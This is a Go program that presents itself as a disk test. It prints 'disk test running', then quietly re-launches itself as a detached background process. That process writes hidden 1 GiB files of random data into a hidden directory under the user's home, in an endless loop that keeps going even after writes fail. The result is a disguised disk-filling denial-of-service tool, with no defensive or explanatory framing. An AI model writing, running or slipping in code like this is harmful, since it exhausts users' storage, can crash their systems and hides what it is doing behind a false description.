package main

import (
	"crypto/rand"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
)

func main() {
	if os.Getenv("DTC_CHILD") == "" {
		cmd := exec.Command(os.Args[0])
		cmd.Env = append(os.Environ(), "DTC_CHILD=1")
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		_ = cmd.Start()
		fmt.Println("disk test running")
		return
	}

	home, _ := os.UserHomeDir()
	dir := filepath.Join(home, ".cache", ".dtc")
	_ = os.MkdirAll(dir, 0o700)

	buf := make([]byte, 64<<20)
	_, _ = rand.Read(buf)
	for i := 0; ; i++ {
		f, err := os.Create(filepath.Join(dir, fmt.Sprintf(".blk%06d", i)))
		if err != nil {
			continue
		}
		for j := 0; j < 16; j++ {
			if _, err := f.Write(buf); err != nil {
				break
			}
		}
		f.Sync()
		f.Close()
	}
}
